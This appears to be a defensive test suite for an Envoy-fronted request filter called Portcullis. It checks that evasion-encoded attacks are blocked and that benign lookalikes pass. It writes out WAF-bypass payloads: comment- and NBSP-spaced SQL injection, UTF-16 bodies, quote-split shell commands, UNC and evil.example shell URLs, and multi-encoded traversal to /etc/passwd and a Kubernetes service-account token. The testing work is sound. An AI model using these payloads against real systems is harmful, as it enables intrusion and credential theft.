import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { startStack, type Stack } from './harness/stack.js';

/**
 * Attacks re-encoded the way sqlmap tamper scripts and shell-evasion cheat sheets encode them, through a
 * real Envoy (bodies sent to Portcullis): each value below was let through before the decoder and
 * detector fixes of the evasion round (bench/detect-evasion.ts measures the same encodings over the corpus).
 * Benign values with the same characters still pass.
 */
describe('threat detection of evasion encodings through a real Envoy', () => {
  let stack: Stack;
  before(async () => {
    stack = await startStack({
      config: () => `
default_action: { action: allow }
threat:
  ban: { ttl_ms: 0, cache_ms: 1000 }
  bot: { cadence: { enabled: false } }
  anomaly: { enabled: false }
routes:
  - name: api
    match: { path: { prefix: / } }
`,
    });
  });
  after(async () => { await stack?.stop(); });

  const UA = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', accept: '*/*', 'accept-language': 'en' };
  const query = (v: string) => stack.request({ method: 'GET', path: `/api/search?q=${v}&page=1`, headers: UA });
  const json = (comment: string) => stack.request({ method: 'POST', path: '/api/items', headers: { ...UA, 'content-type': 'application/json' }, body: JSON.stringify({ name: 'alice', comment }) });
  const form = (v: string) => stack.request({ method: 'POST', path: '/api/comments', headers: { ...UA, 'content-type': 'application/x-www-form-urlencoded' }, body: `name=alice&comment=${v}` });

  it('SQL with comments, VT, Latin-1 NBSP and #…newline for its spaces → 403', async () => {
    for (const [what, r] of [
      ['/**/ (space2comment)', await query('%2F**%2FORDER%2F**%2FBY%2F**%2F30%2F**%2F')],
      ['%A0 (space2mysqlblank)', await query('%A0UNION%A0ALL%A0SELECT%A01,2,3')],
      ['#x%0A (space2hash)', await form('%23x%0AORDER%23x%0ABY%23x%0A5')],
      ['VT in JSON', await json('\u000bORDER\u000bBY\u000b5')],
    ] as const) {
      assert.equal(r.status, 403, `${what}: ${r.body}`);
      assert.equal(r.json().error, 'ERR_THREAT', what);
    }
  });

  it('commands with quotes glued into words and backslash-newline continuations → 403', async () => {
    for (const [what, r] of [
      ["n'e't v'i'ew in JSON", await json("n'e't v'i'ew")],
      ['w\\<LF>hich in a query', await query('w%5C%0Ahich%20p%5C%0Aerl')],
    ] as const) {
      assert.equal(r.status, 403, `${what}: ${r.body}`);
      assert.equal(r.json().error, 'ERR_THREAT', what);
    }
  });

  it('bodies the application decodes otherwise than as UTF-8 JSON: UTF-16 JSON, JSON as octet-stream, a UTF-16 multipart field → 403', async () => {
    const doc = JSON.stringify({ name: 'alice', comment: "1' union select pwd from staff-- " });
    const post = (type: string, body: Buffer) => stack.request({ method: 'POST', path: '/api/items', headers: { ...UA, 'content-type': type }, body });
    const field = Buffer.concat([Buffer.from('--b1\r\nContent-Disposition: form-data; name="q"\r\nContent-Type: text/plain; charset=utf-16le\r\n\r\n'),
      Buffer.from("1' union select pwd from staff-- ", 'utf16le'), Buffer.from('\r\n--b1--\r\n')]);
    for (const [what, r] of [
      ['UTF-16LE JSON', await post('application/json', Buffer.from(doc, 'utf16le'))],
      ['UTF-16BE JSON with a byte order mark', await post('application/json', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(doc, 'utf16le').swap16()]))],
      ['JSON sent as application/octet-stream', await post('application/octet-stream', Buffer.from(doc))],
      ['UTF-16LE multipart field', await post('multipart/form-data; boundary=b1', field)],
    ] as const) {
      assert.equal(r.status, 403, `${what}: ${r.body}`);
      assert.equal(r.json().error, 'ERR_THREAT', what);
    }
  });

  it('benign UTF-16 JSON and a binary octet-stream body pass (200), the body as sent', async () => {
    const doc = Buffer.from(JSON.stringify({ name: "O'Brien", note: 'café ☕' }), 'utf16le');
    const r = await stack.request({ method: 'POST', path: '/api/items', headers: { ...UA, 'content-type': 'application/json' }, body: doc });
    assert.equal(r.status, 200, r.body);
    const bin = Buffer.from([0x7b, 0x00, 0xff, 0x27, 0x3c, 0x73, 0x76, 0x67, 0x20, 0x6f, 0x6e, 0x6c, 0x6f, 0x61, 0x64, 0x3d]);
    const b = await stack.request({ method: 'POST', path: '/api/upload', headers: { ...UA, 'content-type': 'application/octet-stream' }, body: bin });
    assert.equal(b.status, 200, b.body);
  });

  it('session 11 bypasses: 5-deep nibble escapes, a UNC path, `;./x`, `;ps aux`, a segment of X-Original-URL → 403', async () => {
    const deep = (v: string, times: number) => { let t = v; for (let i = 0; i < times; i++) t = t.replace(/%/g, '%25'); return t; };
    for (const [what, r] of [
      ['nibble-split traversal under 5 more %25 layers', await query(deep('..%2%f..%2%fetc%2%fpasswd', 5))],
      ['a value still encoded after four rounds', await query(deep('hello%20world', 5))],
      ['UNC path in a query', await query('%5C%5Cattacker.example%5Cshare%5Cx.php')],
      ['UNC path in JSON', await json('\\\\203.0.113.9\\share\\x')],
      ['protocol-relative URL cut by ?', await form('%2F%2Fevil.example%2Fshell.txt%3F')],
      [';./exploit in a form field', await form('%3B.%2Fexploit')],
      ['x;ps aux in JSON', await json('x;ps aux')],
      ['X-Original-URL segment', await stack.request({ method: 'GET', path: '/public/index.html', headers: { ...UA, 'x-original-url': '/api/items/1%20ORDER%20BY%203--%20/x' } })],
    ] as const) {
      assert.equal(r.status, 403, `${what}: ${r.body}`);
      assert.equal(r.json().error, 'ERR_THREAT', what);
    }
  });

  it('session 11 false positives: a project dotfile path, a tool list, a protocol-relative link pass (200)', async () => {
    for (const [what, r] of [
      ['src/.git/config in JSON', await json('src/.git/config')],
      ['Editors: vim; emacs in a form', await form('Editors%3A%20vim%3B%20emacs')],
      ['//cdn.example.com/lib.js in a query', await query('%2F%2Fcdn.example.com%2Flib.js')],
    ] as const) assert.equal(r.status, 200, `${what}: ${r.body}`);
  });

  it('benign values with quotes, NBSP and comments pass (200)', async () => {
    for (const [what, r] of [
      ['quoted prose', await json("it's 'ls' they said, O'Brien's \"best\" offer")],
      ['NBSP in a query', await query('price%C2%A0100%20EUR')],
      ['a comment in prose', await form('order%20%2F*%20see%20the%20note%20*%2Fby%20Friday')],
    ] as const) assert.equal(r.status, 200, `${what}: ${r.body}`);
  });

  // Traversal in the request path itself, through the real Envoy of envoy/envoy.yaml (normalize_path,
  // merge_slashes, path_with_escaped_slashes_action UNESCAPE_AND_REDIRECT): every spelling either never
  // reaches the upstream as a traversal (Envoy resolves %2e dot-segments before ext_authz, and redirects
  // encoded slashes to their resolved form) or reaches Portcullis still encoded and is refused there.
  const get = (path: string) => stack.request({ method: 'GET', path, headers: UA });

  it('spellings Envoy leaves encoded reach Portcullis and are refused (403 ERR_THREAT)', async () => {
    for (const p of ['/files/%252e%252e%252f%252e%252e%252fetc%252fpasswd', '/files/..;/..;/etc/passwd', '/files/..%c0%af..%c0%afetc%c0%afpasswd',
      '/files/%uff0e%uff0e%u2215etc%u2215passwd', '/files/..%u2215..%u2215app.php', '/files/..%252f..%252fWEB-INF%252fweb.xml', '/files/..\\..\\etc\\passwd']) {
      const r = await get(p);
      assert.equal(r.status, 403, `${p}: ${r.status} ${r.body}`);
      assert.equal(r.json().error, 'ERR_THREAT', p);
    }
  });

  it('encoded slashes are redirected to the resolved path, which carries no dot-dot', async () => {
    for (const [p, to] of [['/files/..%2f..%2fetc%2fpasswd', '/etc/passwd'], ['/files/..%5c..%5cwindows%5cwin.ini', '/windows/win.ini'], ['/x/..%2F..%2Fapp%2Fconfig.php', '/app/config.php']]) {
      const r = await get(p!);
      assert.equal(r.status, 307, `${p}: ${r.status} ${r.body}`);
      assert.equal(r.headers.location, to, p);
    }
  });

  it('%2e dot-segments are resolved by Envoy: the upstream sees the resolved path, and a sensitive one is refused', async () => {
    for (const [p, seen] of [['/static/%2e%2e/%2e%2e/app/config.php', '/app/config.php'], ['/files/.%2e/.%2e/app/settings.inc', '/app/settings.inc'], ['/docs/a/%2e%2e/b.html', '/docs/b.html']]) {
      const r = await get(p!);
      assert.equal(r.status, 200, `${p}: ${r.status} ${r.body}`);
      assert.equal(r.json().path, seen, p);
    }
    // resolved to the file a servlet include would read, or a pod's service-account token: refused after normalisation
    for (const p of ['/files/%2e%2e/%2e%2e/etc/passwd', '/files/%2E%2E/%2E%2E/WEB-INF/web.xml', '/img/%2e%2e/%2e%2e/var/run/secrets/kubernetes.io/serviceaccount/token']) {
      const r = await get(p);
      assert.equal(r.status, 403, `${p}: ${r.status} ${r.body}`);
      assert.equal(r.json().error, 'ERR_THREAT', p);
    }
  });
});
